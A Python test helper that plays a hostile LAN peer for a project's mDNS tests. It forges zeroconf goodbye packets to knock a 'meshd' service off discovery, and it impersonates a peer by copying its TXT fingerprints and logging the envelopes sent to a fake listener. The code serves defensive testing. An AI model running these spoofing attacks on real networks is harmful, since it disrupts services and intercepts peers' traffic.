"""A LAN attacker for tests/test_mdns_hostile_netns.py, run inside a test namespace: python-zeroconf itself,
bound to that namespace's veth address only, forging what anyone on a LAN can send.

Reads commands on stdin, one per line; prints one JSON object per line on stdout:

- ``goodbye <service name> <host name> <ip> <port>``: send the three goodbye packets of that meshd service
  (its PTR, SRV and TXT records with TTL 0, 125 ms apart, as zeroconf's own unregister does) from here:
  ``{"event": "goodbye_sent", "name": ...}``. Nothing is queried first: the instance name, host name and
  address of a meshd service are public (any browser on the LAN sees them).
- ``impersonate <service name>``: resolve that service, then advertise one of our own whose TXT is a copy
  of it (the peer's id, domain, fingerprints, tasks) at this namespace's address and a port where a plain
  socket listener answers every HTTP request with 204 (the most convincing lie) and reports it:
  ``{"event": "registered", ...}``, then ``{"event": "request", "kind": ..., "from": ...}`` for each
  envelope that reaches it (``kind`` read from the envelope's clear-text header).
- ``withdraw``: unregister that service (zeroconf sends its goodbyes): ``{"event": "withdrawn"}``.
- ``exit`` (or EOF).

The attacker runs no browser: its queries would make the victim re-announce and undo a goodbye at once,
which the attack of issue #10 avoided. Exits by itself after ``--max-seconds``; every send is a handful of
packets.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
from typing import Any

import msgpack
from zeroconf import IPVersion, ServiceInfo
from zeroconf.asyncio import AsyncServiceInfo, AsyncZeroconf

SERVICE_TYPE = "_meshd._tcp.local."
GOODBYES = 3
GOODBYE_GAP_S = 0.125  # zeroconf's _UNREGISTER_TIME: spacing between the packets, not synchronisation
RESOLVE_MS = 5000
MAX_REQUEST_BYTES = 80 * 2**20


def _print(obj: dict[str, Any]) -> None:
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


class Attacker:
    def __init__(self, ip: str, port: int) -> None:
        self.ip, self.port = ip, port
        self.aiozc = AsyncZeroconf(interfaces=[ip], ip_version=IPVersion.V4Only)
        self.fake: ServiceInfo | None = None

    async def goodbye(self, name: str, server: str, ip: str, port: int) -> None:
        info = ServiceInfo(SERVICE_TYPE, name, port=port, server=server, parsed_addresses=[ip])
        # Its address records are left alone, as zeroconf does when another service still uses the host name.
        out = self.aiozc.zeroconf.generate_service_broadcast(info, 0, broadcast_addresses=False)
        for i in range(GOODBYES):
            if i:
                await asyncio.sleep(GOODBYE_GAP_S)
            self.aiozc.zeroconf.async_send(out)
        _print({"event": "goodbye_sent", "name": name})

    async def impersonate(self, name: str) -> None:
        victim = AsyncServiceInfo(SERVICE_TYPE, name)
        if not await victim.async_request(self.aiozc.zeroconf, RESOLVE_MS):
            _print({"event": "error", "detail": f"cannot resolve {name}"})
            return
        props = {k.decode(): (v.decode() if v is not None else None) for k, v in victim.properties.items()}
        label = f"impostor-{props.get('id', '')[:8]}"
        fake = ServiceInfo(SERVICE_TYPE, f"{label}.{SERVICE_TYPE}", port=self.port, properties=props,
                           server=f"{label}.local.", parsed_addresses=[self.ip])
        await (await self.aiozc.async_register_service(fake, allow_name_change=True))
        self.fake = fake
        _print({"event": "registered", "name": fake.name, "address": f"{self.ip}:{self.port}"})

    async def withdraw(self) -> None:
        if self.fake is not None:
            await (await self.aiozc.async_unregister_service(self.fake))
            self.fake = None
        _print({"event": "withdrawn"})

    async def close(self) -> None:
        if self.fake is not None:
            await self.withdraw()
        await self.aiozc.async_close()


async def _serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A plain socket listener: read HTTP requests, report each envelope's kind, answer 204."""
    peer = writer.get_extra_info("peername")
    try:
        while True:
            head = await reader.readuntil(b"\r\n\r\n")
            length = 0
            for line in head.decode("latin-1").split("\r\n"):
                key, _, value = line.partition(":")
                if key.strip().lower() == "content-length":
                    length = int(value.strip())
            if not 0 <= length <= MAX_REQUEST_BYTES:
                break
            body = await reader.readexactly(length)
            kind: Any = None
            try:
                envelope = msgpack.unpackb(body, raw=False, max_bin_len=MAX_REQUEST_BYTES)
                kind = envelope.get("kind") if isinstance(envelope, dict) else None
            except Exception:  # not an envelope: reported as such
                kind = None
            _print({"event": "request", "kind": kind, "from": str(peer[0]) if peer else None})
            writer.write(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n")
            await writer.drain()
    except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError, ValueError):
        pass
    finally:
        writer.close()


async def _main(args: argparse.Namespace) -> None:
    server = await asyncio.start_server(_serve, args.ip, args.port)
    attacker = Attacker(args.ip, args.port)
    loop = asyncio.get_running_loop()
    reader = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    _print({"event": "started"})
    try:
        async with asyncio.timeout(args.max_seconds):
            while line := (await reader.readline()).decode().strip():
                cmd, _, arg = line.partition(" ")
                if cmd == "goodbye":
                    name, server, ip, port = arg.split()
                    await attacker.goodbye(name, server, ip, int(port))
                elif cmd == "impersonate":
                    await attacker.impersonate(arg)
                elif cmd == "withdraw":
                    await attacker.withdraw()
                elif cmd == "exit":
                    break
    except TimeoutError:
        pass
    finally:
        await attacker.close()
        server.close()
        await server.wait_closed()


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--ip", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--max-seconds", type=float, default=240.0)
    asyncio.run(_main(p.parse_args()))


if __name__ == "__main__":
    main()
